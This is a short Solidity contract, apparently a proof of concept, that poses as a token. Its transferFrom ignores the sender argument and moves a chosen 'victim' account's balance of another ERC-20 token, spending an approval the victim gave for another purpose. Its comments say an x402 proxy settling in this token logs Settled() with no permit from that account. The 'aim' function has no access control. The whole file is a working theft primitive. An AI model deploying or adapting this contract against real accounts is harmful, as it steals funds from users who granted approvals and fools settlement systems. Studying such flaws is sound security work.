// SPDX-License-Identifier: MIT
pragma solidity ^0.8.34;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title Token whose transfers are transfers of another token
/// @notice A proxy of x402 that settles in it logs `Settled()` right after a transfer of the other token by an account
/// that signed no permit. That account approved this contract for something else.
contract TokenMovesAnotherToken {
    /// @notice The other token.
    IERC20 public other;
    /// @notice The account whose money it moves.
    address public victim;

    /// @notice Chooses the other token and the account.
    /// @param other_ The other token.
    /// @param victim_ The account.
    function aim(IERC20 other_, address victim_) external {
        (other, victim) = (other_, victim_);
    }

    /// @notice Moves the other token of the victim.
    /// @param to The account that is paid.
    /// @param amount The amount.
    /// @return success True.
    function transferFrom(address, address to, uint256 amount) external returns (bool success) {
        return other.transferFrom(victim, to, amount);
    }
}
